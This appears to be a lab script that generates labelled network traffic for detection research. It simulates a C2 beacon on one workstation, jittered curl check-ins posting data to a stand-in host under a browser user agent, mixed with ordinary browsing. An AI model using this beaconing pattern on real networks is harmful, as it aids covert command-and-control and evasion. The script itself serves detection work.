#!/usr/bin/env bash
# A TLS agent that sleeps 60 s ± 30 % between check-ins, for about three hours, from a workstation that also browses.
UC_HERE=$(cd "$(dirname "$0")" && pwd)
. "$UC_HERE/../lib.sh"
uc_start 560 curl nginx-light
uc_lan 192.168.44.1/24
uc_host ws17 192.168.44.17
uc_host ws22 192.168.44.22
uc_browse_sites
uc_site edge.cloudmetrics-sync.example 203.0.113.45
uc_up

uc_plan <<'PY'
from plan import Plan
plan = Plan(seed=11)
end = 3 * 3600
# Each check-in is a process of its own; mostly it asks DNS, sometimes it uses the address it remembers.
def check_in(number):
    remembered = "--resolve edge.cloudmetrics-sync.example:443:203.0.113.45 " if number % 4 else ""
    task = f"task-{number * 7 % 12}"
    sent = 180 if number % 23 else 2600
    return (f"head -c {sent} /dev/urandom | curl -s -o /dev/null --tls-max 1.3 --http1.1 --cacert $UC_CA {remembered}"
            f"-A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' --data-binary @- https://edge.cloudmetrics-sync.example/{task}")
plan.every("192.168.44.17", 41, end, 60, 0.3, check_in)
plan.browse("192.168.44.17", 300, end, ["news", "mail", "docs", "search"])
plan.browse("192.168.44.22", 0, end)
plan.write()
PY
uc_drive --helper 192.168.44.17 browser "python3 $UC_TOOLS/browser.py" --helper 192.168.44.22 browser "python3 $UC_TOOLS/browser.py"
uc_finish "$(uc_versions curl nginx-light dnsmasq-base tcpdump)" <<'LABELS'
192.168.44.17 203.0.113.45:443 c2 beacon
LABELS
